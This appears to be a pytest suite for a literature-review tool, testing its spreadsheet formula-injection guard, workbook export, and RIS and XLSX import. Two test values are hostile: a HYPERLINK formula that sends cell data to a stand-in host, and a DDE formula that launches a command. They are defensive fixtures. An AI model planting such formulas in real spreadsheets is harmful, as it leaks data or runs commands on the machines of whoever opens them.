"""Spreadsheet guard, `review export` (CSV/XLSX/RIS/BibTeX), `review import-xlsx` and `review import-ris`."""
from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from review.cli import main
from review.spreadsheet import neutralise, restore
from review.store import InvalidStudyError, load_studies, read_text_frame, validate_csv, write_studies

FIX = Path(__file__).parent / "fixtures" / "review"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


@pytest.mark.parametrize("value, guarded", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'quoted", "''quoted"), ("plain", "plain"), ("", ""),
    ("-0.5", "-0.5"), ("+3", "+3"), ("-1e-4", "-1e-4"), (-0.5, -0.5), (3, 3), (None, None)])
def test_neutralise_guards_formulas_but_keeps_numbers(value, guarded):
    assert neutralise(value) == guarded
    assert restore(neutralise(value)) == value


@pytest.fixture
def studies(tmp_path) -> Path:
    """Two studies, one with a hostile title, accents and a negative-looking note."""
    df = load_studies(FIX / "studies_small.csv")
    df.loc[0, "title"] = HOSTILE
    df.loc[1, "authors"] = "Müller J; Núñez-García MJ"
    df.loc[1, "notes"] = "-1 in the abstract, +2 in the text; @reviewer: check"
    path = tmp_path / "studies.csv"
    write_studies(path, df)
    return path


def test_csv_export_guards_every_formula_cell(studies, tmp_path):
    assert main(["export", "--format", "csv", "--csv", str(studies), "--out", str(tmp_path / "x.csv")]) == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "x.csv").read_text(encoding="utf-8"))))
    assert rows[0]["title"] == "'" + HOSTILE
    assert rows[1]["notes"].startswith("'-1 in the abstract")
    assert rows[0]["auc"] == "0.7" and rows[0]["fine_tuning_ratio"] == "0"  # numbers stay numbers
    assert rows[1]["authors"] == "Müller J; Núñez-García MJ"
    assert [restore(r["title"]) for r in rows] == list(read_text_frame(studies)["title"])
    assert main(["export", "--format", "csv", "--csv", str(studies), "--out", str(studies)]) == 2  # never itself


def _edit(path: Path, study_id: str, column: str, value) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    ws = wb["studies"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == study_id)
    row[header.index(column)].value = value
    wb.save(path)


def test_xlsx_round_trip_changes_exactly_the_edited_cell(studies, tmp_path):
    from openpyxl import load_workbook

    book = tmp_path / "s.xlsx"
    assert main(["export", "--format", "xlsx", "--csv", str(studies), "--out", str(book)]) == 0
    ws = load_workbook(book)["studies"]
    header = [c.value for c in ws[1]]
    first = {h: c for h, c in zip(header, next(ws.iter_rows(min_row=2)))}
    assert first["title"].value == "'" + HOSTILE and first["title"].data_type == "s"  # text, not a formula
    assert first["year"].value == 2018 and first["auc"].value == 0.7                  # numbers as numbers
    assert "codebook" in load_workbook(book).sheetnames
    before = read_text_frame(studies)
    _edit(book, "cheng2017", "n_test", 1423)
    assert main(["import-xlsx", str(book), "--csv", str(studies), "--json"]) == 0
    after = read_text_frame(studies)
    diff = [(i, c) for i in range(len(before)) for c in before.columns if before.at[i, c] != after.at[i, c]]
    assert diff == [(1, "n_test")] and after.at[1, "n_test"] == "1423"
    assert after.at[0, "title"] == HOSTILE and after.at[1, "authors"] == "Müller J; Núñez-García MJ"
    assert validate_csv(studies) == []


def test_xlsx_import_is_validated_like_add_and_writes_nothing_on_error(studies, tmp_path, capsys):
    book = tmp_path / "s.xlsx"
    main(["export", "--format", "xlsx", "--csv", str(studies), "--out", str(book)])
    capsys.readouterr()
    original = studies.read_bytes()
    _edit(book, "shi2018", "auc", 1.5)
    assert main(["import-xlsx", str(book), "--csv", str(studies), "--json"]) == 1
    doc = json.loads(capsys.readouterr().out)
    assert doc["error"] == "invalid" and doc["problems"][0]["row"] == 2 and doc["problems"][0]["column"] == "auc"
    assert "s.xlsx" in doc["problems"][0]["file"] and studies.read_bytes() == original
    _edit(book, "shi2018", "auc", "=1/0")
    assert main(["import-xlsx", str(book), "--csv", str(studies)]) == 2
    assert "a formula" in capsys.readouterr().err and studies.read_bytes() == original
    _edit(book, "shi2018", "auc", 0.7)
    _edit(book, "cheng2017", "study_id", "shi2018")  # two rows, one study_id
    with pytest.raises(InvalidStudyError, match="appears twice in the sheet"):
        from review.xlsx import import_xlsx

        import_xlsx(book, studies)
    assert studies.read_bytes() == original


def test_xlsx_import_adds_new_rows_keeps_missing_ones_and_dry_run_writes_nothing(studies, tmp_path):
    from openpyxl import load_workbook

    from review.xlsx import import_xlsx

    book = tmp_path / "s.xlsx"
    main(["export", "--format", "xlsx", "--csv", str(studies), "--out", str(book)])
    wb = load_workbook(book)
    ws = wb["studies"]
    header = [c.value for c in ws[1]]
    new = {"study_id": "ødegaard2020", "authors": "Ödegaard Å", "year": 2020, "title": "Fine-tuning for dermoscopy",
           "source_url": "https://example.org/o", "evidence": "e", "coded_by": "sheet", "confidence": "low"}
    ws.append([new.get(h) for h in header])
    ws.delete_rows(2)  # shi2018 leaves the sheet
    wb.save(book)
    original = studies.read_bytes()
    with pytest.raises(InvalidStudyError, match="study_id"):  # not ASCII: the codebook's pattern
        import_xlsx(book, studies)
    _edit(book, "ødegaard2020", "study_id", "odegaard2020")
    dry = import_xlsx(book, studies, dry_run=True)
    assert dry.added == [{"study_id": "odegaard2020", "sheet_row": 3}] and studies.read_bytes() == original
    report = import_xlsx(book, studies)
    assert report.not_in_sheet == ["shi2018"] and report.unchanged == 1
    ids = list(read_text_frame(studies)["study_id"])
    assert ids == ["shi2018", "cheng2017", "odegaard2020"]
    assert read_text_frame(studies).at[2, "coded_on"] != ""  # defaults to today, as review add


def test_not_a_workbook_is_a_clear_error(tmp_path, studies, capsys):
    bad = tmp_path / "bad.xlsx"
    bad.write_text("not a zip")
    assert main(["import-xlsx", str(bad), "--csv", str(studies)]) == 2
    assert "not a readable .xlsx workbook" in capsys.readouterr().err


# --------------------------------------------------------------------------- RIS
@pytest.fixture
def small(tmp_path) -> Path:
    return Path(shutil.copy(FIX / "studies_small.csv", tmp_path / "studies.csv"))


def _fates(report) -> dict[str, str]:
    return {f"{i['key']}@{i['line']}": kind for kind in ("added", "merged", "skipped") for i in getattr(report, kind)}


def test_web_of_science_ris_with_bom_crlf_accents_duplicates_and_missing_fields(small):
    from review.ris import import_ris

    report = import_ris(FIX / "wos.ris", small)
    assert _fates(report) == {"WOS:000398097700012@1": "merged", "WOS:000111111100001@17": "added",
                              "WOS:000111111100002@28": "skipped", "WOS:000111111100003@37": "skipped",
                              "WOS:000111111100004@45": "skipped", "@53": "skipped"}
    reasons = [i["reason"] for i in report.skipped]
    assert reasons[0] == "same study as entry 'WOS:000111111100001' earlier in the file"  # DOI, other case
    assert reasons[1].startswith("missing year") and "--source-url" in reasons[2] and "no 'ER  -'" in reasons[3]
    assert report.merged[0]["fields"] == ["doi", "journal"]
    rows = read_text_frame(small).set_index("study_id")
    assert rows.at["cheng2017", "doi"] == "10.1007/s10278-016-9929-2"
    assert rows.at["muller2019", "authors"] == "Müller J; Núñez-García MJ; Łukasiewicz Z"
    assert rows.at["muller2019", "title"] == "Deep features for fundus photographs from São Paulo: a transfer learning study"
    assert rows.at["muller2019", "coded_by"] == "import-ris" and "RIS record 'WOS:000111111100001'" in \
        rows.at["muller2019", "evidence"]
    assert validate_csv(small) == []
    again = import_ris(FIX / "wos.ris", small)  # idempotent: everything is present now
    assert not again.added and not again.merged


def test_scopus_ris_and_pubmed_nbib(small):
    from review.ris import import_ris

    scopus = import_ris(FIX / "scopus.ris", small)
    assert scopus.skipped[0]["reason"] == "already present as 'shi2018'; nothing new to merge"  # DOI case-insensitive
    assert scopus.added[0]["study_id"] == "odegaard2020"
    pubmed = import_ris(FIX / "pubmed.nbib", small)
    assert [a["study_id"] for a in pubmed.added] == ["kim2022"] and pubmed.merged[0]["study_id"] == "cheng2017"
    rows = read_text_frame(small).set_index("study_id")
    assert rows.at["kim2022", "doi"] == "10.1186/s12880-022-00793-7"
    assert rows.at["kim2022", "authors"] == "Kim HE; Cosa-Linan A; Santhanam N"
    assert rows.at["kim2022", "journal"] == "BMC medical imaging"
    assert rows.at["odegaard2020", "authors"] == "Ödegaard Å; van der Berg P-J"
    assert rows.at["odegaard2020", "source_url"].startswith("https://www.scopus.com/")


def test_cli_import_ris_json_and_unreadable_file(small, tmp_path, capsys):
    assert main(["import-ris", str(FIX / "scopus.ris"), "--csv", str(small), "--dry-run", "--json"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert list(doc)[:3] == ["ris", "csv", "dry_run"] and doc["added"][0]["line"] == 20
    assert len(read_text_frame(small)) == 2  # dry run
    empty = tmp_path / "empty.ris"
    empty.write_text("Search strategy only, no records\n")
    assert main(["import-ris", str(empty), "--csv", str(small)]) == 2
    assert "no RIS record" in capsys.readouterr().err


def test_ris_and_bib_exports_round_trip_the_bibliography(studies, tmp_path):
    from review.bibtex import parse_bib
    from review.ris import parse_ris

    assert main(["export", "--format", "ris", "--csv", str(studies), "--out", str(tmp_path / "s.ris")]) == 0
    assert main(["export", "--format", "bib", "--csv", str(studies), "--out", str(tmp_path / "s.bib")]) == 0
    records, skipped, _ = parse_ris((tmp_path / "s.ris").read_text(encoding="utf-8"))
    bib, _ = parse_bib((tmp_path / "s.bib").read_text(encoding="utf-8"))
    csv_rows = read_text_frame(studies)
    assert not skipped and [r.key for r in records] == list(csv_rows["study_id"])
    assert [r.title for r in records] == list(csv_rows["title"])
    assert [r.doi for r in records] == list(csv_rows["doi"])
    assert [r.authors for r in records] == [a.split("; ") for a in csv_rows["authors"]]
    assert [r.key for r in bib] == list(csv_rows["study_id"])
    assert not (tmp_path / "s.ris").read_text().startswith("1.")  # no counter lines


def test_harness_results_csv_is_guarded(tmp_path, capsys):
    from harness.cli import main as harness_main
    from harness.store import ResultStore

    store = ResultStore(tmp_path / "r.sqlite")
    store.record({"trial_id": "t1", "sweep": "s", "status": "failed", "backbone": "CBR-Tiny",
                  "strategy": "full_finetune", "weights": "none", "weights_label": "none", "seed": 0,
                  "train_patients": 4, "config": {"a": 1}, "metrics": {"test": {"accuracy": 0.5}},
                  "timings": {"total_s": 1.0}, "versions": {"keras": "x"}, "backend": "tensorflow",
                  "device": "cpu", "machine": "{}", "error": "=cmd|' /C calc'!A0"})
    assert harness_main(["results", "--store", str(tmp_path / "r.sqlite"), "--csv", "--failed"]) == 0
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["error"] == "'=cmd|' /C calc'!A0" and row["accuracy"] == "0.5"
